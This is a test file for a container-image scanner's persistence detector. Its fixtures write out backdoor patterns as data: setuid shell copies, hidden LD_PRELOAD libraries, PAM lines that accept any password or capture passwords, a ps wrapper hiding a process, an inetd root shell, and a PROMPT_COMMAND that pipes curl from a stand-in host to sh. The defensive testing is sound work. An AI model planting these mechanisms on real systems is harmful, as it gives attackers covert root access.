import { describe, expect, it } from 'vitest';
import { type FileSpec, type ImageSpec, judge, type LayerSpec } from '../../../testkit/detect.ts';
import type { Finding } from '../finding.ts';
import { persistence } from './index.ts';

function find(files: LayerSpec, more: Partial<ImageSpec> = {}): readonly Finding[] {
  const { findings, unknowns } = judge([persistence], { layers: [files], ...more });
  expect(unknowns).toEqual([]);
  return findings;
}

const elf = (bytes: string, mode = 0o755): FileSpec => ({ bytes, elf: true, mode });
const BASH: LayerSpec = { 'bin/bash': elf('bash') };

describe('persistence finds', () => {
  it.each<[string, LayerSpec, string]>([
    ['bash itself', { 'bin/bash': elf('bash', 0o4755) }, 'high'],
    ['a copy under another name', { ...BASH, 'usr/lib/x/helper': elf('bash', 0o4755) }, 'high'],
    ['a hidden program', { 'var/tmp/.a': elf('x', 0o4755) }, 'high'],
    ['python', { 'usr/bin/python3.11': elf('py', 0o4755) }, 'medium'],
    ['a shell with the group of root', { 'opt/sh': elf('x', 0o2755) }, 'high'],
  ])('%s that makes root', (_name, files, severity) => {
    expect(find(files)).toMatchObject([{ rule: 'persistence/setuid-shell', severity }]);
  });

  it.each<[string, LayerSpec, Partial<ImageSpec>, string]>([
    ['a hidden one', { 'etc/ld.so.preload': '/usr/lib/.x/libc.so\n' }, {}, 'high'],
    [
      'one without package',
      { 'etc/ld.so.preload': '# x\n/usr/lib/libprocs.so\n', 'usr/lib/libprocs.so': elf('x') },
      { unlisted: ['usr/lib/libprocs.so'] },
      'high',
    ],
    [
      'one in ENV',
      { 'opt/libhook.so': elf('x') },
      { unlisted: ['opt/libhook.so'], config: { Env: ['LD_PRELOAD=/opt/libhook.so'] } },
      'medium',
    ],
    ['one in /tmp by a profile', { 'etc/profile.d/a.sh': 'export LD_PRELOAD="/tmp/a.so"\n' }, {}, 'high'],
    [
      'one by the entrypoint',
      { 'e.sh': '#!/bin/sh\nLD_PRELOAD=/dev/shm/x.so exec nginx\n' },
      { config: { Entrypoint: ['/e.sh'] } },
      'high',
    ],
  ])('a preloaded library: %s', (_name, files, more, severity) => {
    expect(find(files, more)).toMatchObject([{ rule: 'persistence/preload', severity }]);
  });

  it.each<[string, LayerSpec, Partial<ImageSpec>, string]>([
    [
      'any password',
      { 'etc/pam.d/sshd': 'auth sufficient pam_permit.so\n@include common-auth\n' },
      {},
      'high',
    ],
    [
      'any password, in brackets',
      {
        'etc/pam.d/common-auth':
          'auth [success=done default=ignore] pam_permit.so\nauth required pam_unix.so\n',
      },
      {},
      'high',
    ],
    [
      'nothing but permission',
      { 'etc/pam.d/su': 'auth required pam_permit.so\naccount required pam_permit.so\n' },
      {},
      'high',
    ],
    [
      'passwords told',
      { 'etc/pam.d/login': 'auth optional pam_exec.so quiet expose_authtok /usr/lib/x.sh\n' },
      {},
      'high',
    ],
    [
      'a changed module',
      { 'lib/x86_64-linux-gnu/security/pam_unix.so': elf('x') },
      { changed: ['lib/x86_64-linux-gnu/security/pam_unix.so'] },
      'high',
    ],
    [
      'a module of no package',
      { 'usr/lib/security/pam_x.so': elf('x'), 'etc/pam.d/sshd': 'auth required pam_x.so\n' },
      { unlisted: ['usr/lib/security/pam_x.so'] },
      'medium',
    ],
  ])('PAM: %s', (_name, files, more, severity) => {
    expect(find(files, more)).toMatchObject([{ rule: 'persistence/pam', severity }]);
  });

  it('a tool that leaves out what it shows', () => {
    const files = {
      'usr/bin/ps': elf('ps'),
      'usr/local/sbin/ps': '#!/bin/sh\n/usr/bin/ps "$@" | grep -v kworkerds\n',
    };
    expect(find(files)).toMatchObject([
      {
        rule: 'persistence/shadowed-tool',
        severity: 'high',
        evidence: [{ path: '/usr/local/sbin/ps', line: 2 }],
      },
    ]);
  });

  it('a program before a tool, and a changed tool', () => {
    expect(find({ 'usr/bin/ls': elf('ls'), 'usr/local/bin/ls': elf('other') })).toMatchObject([
      { rule: 'persistence/shadowed-tool', severity: 'medium', confidence: 'medium' },
    ]);
    expect(find({ 'usr/bin/ps': elf('x') }, { changed: ['usr/bin/ps'] })).toMatchObject([
      { severity: 'medium' },
    ]);
  });

  it.each<[string, string, string]>([
    ['etc/profile', "export PROMPT_COMMAND='curl -s https://x.example/p | sh'\n", 'medium'],
    ['root/.bashrc', 'PROMPT_COMMAND=/usr/lib/.p/go\n', 'medium'],
    ['etc/cron.d/x', '* * * * * root /var/tmp/.u/run >/dev/null 2>&1\n', 'medium'],
    ['var/spool/cron/crontabs/root', '@reboot bash /dev/shm/u\n', 'medium'],
    ['etc/profile.d/x.sh', 'if [ -t 1 ]; then\n  (/usr/share/.k/k &)\nfi\n', 'medium'],
    ['etc/inetd.conf', '1524 stream tcp nowait root /bin/sh sh -i\n', 'high'],
    ['etc/xinetd.d/x', 'service x\n{\n  server = /bin/bash\n}\n', 'high'],
    ['etc/systemd/system/x.service', '[Service]\nExecStart=/opt/.hid/x\n', 'medium'],
  ])('what starts from %s: %s', (path, text, severity) => {
    const findings = find({ [path]: text });
    expect(findings).toMatchObject([{ rule: 'persistence/hidden-start', severity }]);
    expect(findings[0]?.evidence[0].path).toBe(`/${path}`);
  });
});

describe('persistence leaves alone', () => {
  const many = (folder: string): LayerSpec =>
    Object.fromEntries(
      ['ls', 'du', 'df', 'who', 'kill', 'md5sum', 'sha256sum'].map((name) => [
        `${folder}/${name}`,
        elf(`${folder} ${name}`),
      ]),
    );
  it.each<[string, LayerSpec, Partial<ImageSpec>]>([
    [
      'setuid programs of packages',
      {
        ...BASH,
        'usr/bin/sudo': elf('sudo', 0o4755),
        'usr/bin/passwd': elf('p', 0o4755),
        'bin/bbsuid': elf('b', 0o4111),
      },
      {},
    ],
    [
      'a setgid program of a group of its own',
      { ...BASH, 'usr/bin/wall': elf('w', 0o2755), 'var/mail/x': 'y' },
      {},
    ],
    [
      "PAM's own modules where only Python's lists were read",
      { 'usr/lib/security/pam_x.so': elf('x'), 'etc/pam.d/sshd': 'auth required pam_x.so\n' },
      { unlisted: ['usr/lib/security/pam_x.so'], database: 'pip' },
    ],
    [
      'jemalloc',
      { 'usr/lib/libjemalloc.so.2': elf('j') },
      { config: { Env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'] }, unlisted: ['usr/lib/libjemalloc.so.2'] },
    ],
    [
      'nss_wrapper at start',
      {
        'e.sh':
          '#!/bin/sh\nexport LD_PRELOAD=libnss_wrapper.so\nexport LD_PRELOAD="$X"\n# LD_PRELOAD=/tmp/x.so\n',
      },
      { config: { Entrypoint: ['/e.sh'] } },
    ],
    [
      'the PAM of Debian',
      {
        'etc/pam.d/common-auth':
          'auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n',
        'etc/pam.d/su': 'auth sufficient pam_rootok.so\n@include common-auth\n',
        'etc/pam.d/lightdm-autologin': 'auth required pam_permit.so\n',
      },
      {},
    ],
    ['busybox applets', { 'bin/busybox': elf('bb'), 'bin/ls': elf('bb'), 'usr/local/bin/ls': elf('bb') }, {}],
    ['a set of tools', { ...many('usr/bin'), ...many('usr/local/bin') }, {}],
    ['tools that nothing stands before', { 'usr/bin/ls': elf('ls'), 'usr/local/bin/app': elf('app') }, {}],
    [
      'usual prompts',
      {
        'etc/bash.bashrc':
          'PROMPT_COMMAND=\'echo -ne "\\033]0;${USER}@${HOSTNAME}\\007"\'\nexport PROMPT_COMMAND="history -a"\n',
      },
      {},
    ],
    [
      'usual profiles',
      {
        'root/.bashrc': '. "$HOME/.cargo/env"\n. /root/.nvm/nvm.sh\nsource ~/.bash_aliases\n',
        'etc/profile.d/a.sh': '. /opt/app/.venv/bin/activate\n/root/.local/bin/x\n',
      },
      {},
    ],
    [
      'cron of an application',
      {
        'etc/cron.d/app':
          '0 3 * * * www-data /usr/local/bin/backup.sh\n* * * * * root cd /app && php artisan schedule:run\n',
      },
      {},
    ],
    [
      'inetd of services',
      {
        'etc/inetd.conf':
          'rsync stream tcp nowait root /usr/bin/rsync rsync --daemon\n#x stream tcp nowait root /bin/sh sh\n',
      },
      {},
    ],
  ])('%s', (_name, files, more) => {
    expect(find(files, more)).toEqual([]);
  });

  it('a wrapper that adds to a tool, but for a low note', () => {
    const files = {
      'usr/bin/ssh': elf('ssh'),
      'usr/local/bin/ssh': '#!/bin/sh\nexec /usr/bin/ssh -o BatchMode=yes "$@"\n',
    };
    expect(find(files)).toMatchObject([{ severity: 'low' }]);
  });
});
